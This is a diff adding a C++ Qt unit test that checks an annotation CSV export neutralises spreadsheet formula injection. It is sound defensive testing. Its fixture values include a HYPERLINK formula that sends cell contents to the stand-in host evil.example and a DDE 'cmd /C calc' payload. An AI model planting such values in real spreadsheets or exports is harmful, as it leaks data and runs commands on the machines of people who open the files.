@@ -142,6 +142,37 @@ private Q_SLOTS:
         QCOMPARE(urn.at(0).toObject().value(u"target"_s).toObject().value(u"source"_s).toString(), u"urn:folio:article:7"_s);
     }
 
+    // Feed-controlled titles and links, and the reader's own notes, must never run as a
+    // spreadsheet formula (OWASP CSV injection): a leading ' and quoting for = + - @ tab CR.
+    void csvNeutralisesFormulas()
+    {
+        AnnotatedArticle a;
+        a.id = 5;
+        a.title = u"=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"_s;
+        a.link = u"@SUM(1+1)*cmd|' /C calc'!A0"_s;
+        a.published = 1717228800;
+        Annotation plus;
+        plus.articleId = 5;
+        plus.quote = u"+31 20 555"_s;
+        plus.note = u"-2+3"_s;
+        plus.color = u"\tyellow"_s;
+        plus.created = 1717232400;
+        Annotation cr;
+        cr.articleId = 5;
+        cr.quote = u"\r=1+1"_s;
+        cr.note = u"\uFF1D1+1"_s; // full-width equals sign
+        cr.color = u"green"_s;
+        cr.created = 1717232400;
+        Annotation harmless;
+        harmless.articleId = 5;
+        harmless.quote = u"a = b"_s; // formula characters later in the cell are fine
+        harmless.note = u"x-ray"_s;
+        harmless.color = u"pink"_s;
+        harmless.created = 1717232400;
+        a.annotations = {plus, cr, harmless};
+        compareWithFile(annotationexport::toCsv({a}), u"annotations-injection.csv"_s);
+    }
+
     void formatNames()
     {
         QCOMPARE(annotationexport::formatFromName(u"markdown"_s), annotationexport::Format::Markdown);
